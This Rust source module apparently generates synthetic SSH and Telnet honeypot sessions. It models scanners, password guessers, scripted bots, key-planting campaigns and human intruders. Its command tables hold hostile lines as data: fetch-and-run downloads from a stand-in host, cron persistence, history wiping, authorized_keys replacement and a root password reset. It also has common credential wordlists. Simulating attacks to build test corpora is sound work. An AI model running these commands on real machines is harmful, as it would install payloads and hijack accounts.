//! Who attacks: scanners, guessers, bots with a script, campaigns with a key, and rare humans.

use base64::Engine as _;
use base64::engine::general_purpose::STANDARD;
use rand::{Rng as _, RngExt as _, SeedableRng as _};
use rand_distr::{Distribution as _, Zipf};
use rand_pcg::Pcg64Mcg;

use crate::corpus::event::{CLIENTS, What};

/// Families of bots, each with a script of its own.
const BOT_FAMILIES: u32 = 48;

/// What an attacker does, the same each time it comes, but for a human.
#[derive(Clone, Copy, Debug, Eq, PartialEq)]
pub(crate) enum Actor {
    /// Looks whether somebody answers.
    Scanner,
    /// Tries passwords.
    Guesser,
    /// Runs the script of its family.
    Bot(u32),
    /// Runs a script over Telnet.
    Telnet(u32),
    /// Plants the key of its campaign.
    Planter(u32),
    /// Types.
    Human,
}

impl Actor {
    /// What the attacker of this number is.
    pub(crate) fn of(attacker: u32) -> Self {
        let share = attacker.wrapping_mul(2_654_435_761) >> 8;
        let family = attacker.wrapping_mul(40_503) >> 5;
        match share % 1_000 {
            0..240 => Self::Scanner,
            240..600 => Self::Guesser,
            600..880 => Self::Bot(family % BOT_FAMILIES),
            880..930 => Self::Telnet(family % 8),
            930..998 => Self::Planter(0),
            _ => Self::Human,
        }
    }

    pub(crate) fn is_telnet(self) -> bool {
        matches!(self, Self::Telnet(_))
    }
}

/// An event and the milliseconds since the one before.
pub(crate) type Step = (u32, What);

/// What a session does from its connect to its close.
pub(crate) fn session(actor: Actor, rng: &mut Pcg64Mcg) -> Vec<Step> {
    let mut steps = vec![(0, What::Connect)];
    let client = client_of(actor, rng);
    if !actor.is_telnet() {
        steps.push((after(rng, 120), What::Version(CLIENTS[client])));
        if actor != Actor::Scanner || rng.random_ratio(1, 3) {
            steps.push((after(rng, 90), What::Kex(client)));
        }
    }
    match actor {
        Actor::Scanner => {}
        Actor::Guesser => guess(&mut steps, rng),
        Actor::Bot(family) => run_script(&mut steps, family, rng),
        Actor::Telnet(family) => run_script(&mut steps, 1_000 + family, rng),
        Actor::Planter(campaign) => plant(&mut steps, campaign, rng),
        Actor::Human => type_commands(&mut steps, rng),
    }
    let milliseconds: u32 = steps.iter().map(|(after, _)| after).sum();
    let wait = after(rng, 900);
    steps.push((wait, What::Closed { seconds: f64::from(milliseconds + wait) / 1_000.0 }));
    steps
}

/// About so many milliseconds.
fn after(rng: &mut Pcg64Mcg, about: u32) -> u32 {
    about / 2 + rng.random_range(0..=about)
}

fn client_of(actor: Actor, rng: &mut Pcg64Mcg) -> usize {
    match actor {
        Actor::Bot(family) | Actor::Planter(family) => family as usize % CLIENTS.len(),
        _ => rng.random_range(0..CLIENTS.len()),
    }
}

const USERS: [&str; 16] = [
    "root", "admin", "ubuntu", "user", "test", "oracle", "postgres", "git", "pi", "ftpuser",
    "hadoop", "deploy", "mysql", "guest", "jenkins", "support",
];
const WORDS: [&str; 20] = [
    "123456", "password", "admin", "root", "qwerty", "letmein", "1q2w3e4r", "changeme", "toor",
    "P@ssw0rd", "welcome", "server", "dragon", "abc", "master", "oracle", "linux", "cisco", "vps",
    "cloud",
];

/// A pair as lists of passwords have them: few are tried often, many once.
fn credentials(rng: &mut Pcg64Mcg) -> (String, String) {
    let rank = |n: f64, s: f64| Zipf::new(n, s).map_or(0, |zipf| zipf.sample(&mut *rng) as usize);
    let mut rank = rank;
    let (user, word) = (rank(16.0, 1.1) - 1, rank(40_000.0, 0.95) - 1);
    let number = word / WORDS.len();
    let word = WORDS[word % WORDS.len()];
    let password = if number == 0 { word.to_owned() } else { format!("{word}{number}") };
    (USERS[user % USERS.len()].to_owned(), password)
}

fn guess(steps: &mut Vec<Step>, rng: &mut Pcg64Mcg) {
    for _ in 0..rng.random_range(1..=5) {
        let (username, password) = credentials(rng);
        let is_let_in = rng.random_ratio(1, 30);
        steps.push((after(rng, 700), What::Login { username, password, is_let_in }));
        if is_let_in {
            break;
        }
    }
    if rng.random_ratio(1, 60) {
        steps.push((after(rng, 300), What::Forward { host: "ya.ru", port: 80 }));
    }
}

/// Numbers that are always the same for one name.
fn fixed(name: u64) -> Pcg64Mcg {
    Pcg64Mcg::seed_from_u64(name.wrapping_mul(0x9e37_79b9_7f4a_7c15))
}

fn hex_digest(rng: &mut Pcg64Mcg) -> String {
    format!("{:032x}{:032x}", rng.random::<u128>(), rng.random::<u128>())
}

/// Pieces of which the scripts of bots are made.
const PIECES: [&str; 24] = [
    "uname -a",
    "uname -s -v -n -r -m",
    "cat /proc/cpuinfo | grep name | wc -l",
    "free -m | grep Mem | awk '{print $2 ,$3, $4, $5, $6, $7}'",
    "ls -lh $(which ls)",
    "which ls",
    "crontab -l",
    "w",
    "top",
    "df -h | head -n 2 | awk 'FNR == 2 {print $2;}'",
    "lscpu | grep Model",
    "cat /proc/cpuinfo | grep model | grep name | wc -l",
    "rm -rf /tmp/secure.sh; rm -rf /tmp/auth.sh; pkill -9 secure.sh; pkill -9 auth.sh; \
     echo > /etc/hosts.deny; pkill -9 sleep;",
    "echo -e \"\\x6F\\x6B\"",
    "/bin/./uname -s -v -n -r -m",
    "export HISTFILE=/dev/null; export HISTSIZE=0; unset HISTFILE",
    "cd /tmp || cd /var/run || cd /mnt || cd /root || cd /",
    "chmod 777 {file}; ./{file}",
    "wget http://{host}/{file} -O /tmp/{file}; chmod +x /tmp/{file}; /tmp/{file} {family}",
    "curl -s -L http://{host}/{file}.sh | bash -s {family}",
    "tftp -g -r {file} {host}; chmod 777 {file}",
    "(crontab -l; echo \"*/5 * * * * /tmp/{file}\") | crontab -",
    "ps aux | grep -v grep | grep xmrig | awk '{print $2}' | xargs kill -9",
    "rm -rf {file}; history -c",
];

const TELNET_PIECES: [&str; 5] = ["enable", "system", "shell", "sh", "/bin/busybox {FAMILY}"];

/// The script of a family: the same lines, but for the name of the file it drops.
fn run_script(steps: &mut Vec<Step>, family: u32, rng: &mut Pcg64Mcg) {
    let mut script = fixed(u64::from(family));
    let username = USERS[script.random_range(0..4)].to_owned();
    let password = if family.is_multiple_of(3) {
        format!("{}{}", WORDS[script.random_range(0..WORDS.len())], script.random_range(0..99))
    } else {
        WORDS[script.random_range(0..WORDS.len())].to_owned()
    };
    steps.push((after(rng, 600), What::Login { username, password, is_let_in: true }));
    steps.push((after(rng, 60), What::Params("linux-x64-lsb")));
    let host = format!("198.51.100.{}", script.random_range(1..255));
    let constant = format!("{:x}", script.random::<u32>());
    let file = if family.is_multiple_of(2) { constant } else { format!("{:08x}", rng.next_u32()) };
    let telnet = if family >= 1_000 { &TELNET_PIECES[..] } else { &[] };
    let n_pieces = script.random_range(3..=9);
    let chosen: Vec<&str> =
        (0..n_pieces).map(|_| PIECES[script.random_range(0..PIECES.len())]).collect();
    for piece in telnet.iter().copied().chain(chosen) {
        let command = piece
            .replace("{host}", &host)
            .replace("{file}", &file)
            .replace("{family}", &format!("f{family}"))
            .replace("{FAMILY}", &format!("FAM{family}"));
        let fetches = piece.starts_with("wget") || piece.starts_with("curl");
        steps.push((after(rng, 250), What::Command(command.clone())));
        if piece.starts_with("tftp") || piece.starts_with("lscpu") {
            steps.push((after(rng, 20), What::CommandFailed(command)));
        }
        if fetches {
            let url = format!("http://{host}/{file}");
            let shasum = hex_digest(&mut fixed(u64::from(family) << 8));
            steps.push((after(rng, 800), What::Download { url, shasum }));
        }
    }
    close_terminal(steps, family, rng);
}

fn close_terminal(steps: &mut Vec<Step>, name: u32, rng: &mut Pcg64Mcg) {
    let shasum = hex_digest(&mut fixed(u64::from(name) << 16));
    let milliseconds: u32 = steps.iter().map(|(after, _)| after).sum();
    let (size, seconds) = (200 + name % 1_999, f64::from(milliseconds) / 1_000.0);
    steps.push((after(rng, 200), What::LogClosed { shasum, size, seconds }));
}

/// The line of `authorized_keys` that a campaign plants.
pub(crate) fn planted_key(campaign: u32) -> String {
    let mut rng = fixed(u64::from(campaign) << 32);
    let mut modulus = [0_u8; 257];
    rng.fill_bytes(&mut modulus);
    (modulus[0], modulus[1]) = (0, modulus[1] | 0x80);
    let mut blob = Vec::new();
    for field in [&b"ssh-rsa"[..], &[1, 0, 1], &modulus] {
        blob.extend((field.len() as u32).to_be_bytes());
        blob.extend(field);
    }
    format!("ssh-rsa {} owner{campaign}", STANDARD.encode(blob))
}

/// A campaign plants its key and looks around.
fn plant(steps: &mut Vec<Step>, campaign: u32, rng: &mut Pcg64Mcg) {
    let password = format!("campaign{campaign}!");
    let login = What::Login { username: "root".to_owned(), password, is_let_in: true };
    steps.push((after(rng, 600), login));
    steps.push((after(rng, 60), What::Params("linux-x64-lsb")));
    let key = planted_key(campaign);
    let new_password: String =
        (0..12).map(|_| rng.sample(rand::distr::Alphanumeric) as char).collect();
    let commands = [
        "cd ~; chattr -ia .ssh; lockr -ia .ssh".to_owned(),
        format!(
            "cd ~ && rm -rf .ssh && mkdir .ssh && echo \"{key}\">>.ssh/authorized_keys \
             && chmod -R go= ~/.ssh && cd ~"
        ),
        "cat /proc/cpuinfo | grep name | wc -l".to_owned(),
        format!("echo \"root:{new_password}\"|chpasswd|bash"),
        "uname -m".to_owned(),
        "whoami".to_owned(),
        "lscpu | grep Model".to_owned(),
    ];
    let n_commands = rng.random_range(3..=commands.len());
    for command in commands.into_iter().take(n_commands) {
        steps.push((after(rng, 300), What::Command(command)));
    }
    close_terminal(steps, 2_000 + campaign, rng);
}

const TYPED: [&str; 20] = [
    "ls -la",
    "pwd",
    "id",
    "cat /etc/passwd",
    "ps auxf",
    "netstat -tulpn",
    "cd /var/www",
    "history",
    "ifconfig",
    "cat /etc/issue",
    "last",
    "ssh -V",
    "sudo su",
    "find / -name '*.env'",
    "exit",
    "nano /etc/crontab",
    "ping -c 1 8.8.8.8",
    "apt list --installed",
    "env",
    "mount",
];

/// A human types, mistypes, and says things that nobody else does.
fn type_commands(steps: &mut Vec<Step>, rng: &mut Pcg64Mcg) {
    let (username, password) = credentials(rng);
    steps.push((after(rng, 4_000), What::Login { username, password, is_let_in: true }));
    steps.push((after(rng, 300), What::Size(80 + rng.random_range(0..120), 24)));
    steps.push((after(rng, 60), What::Params("linux-x64-lsb")));
    for _ in 0..rng.random_range(6..40) {
        let typed = TYPED[rng.random_range(0..TYPED.len())];
        let command = if rng.random_ratio(1, 3) {
            format!("{typed} /home/{:x}", rng.next_u32())
        } else {
            typed.to_owned()
        };
        steps.push((after(rng, 9_000), What::Command(command.clone())));
        if rng.random_ratio(1, 6) {
            steps.push((after(rng, 20), What::CommandFailed(command)));
        }
    }
    if rng.random_ratio(1, 4) {
        let shasum = hex_digest(rng);
        let filename = format!("tool-{:x}", rng.next_u32());
        steps.push((after(rng, 5_000), What::Upload { filename, shasum }));
    }
    close_terminal(steps, rng.next_u32(), rng);
}
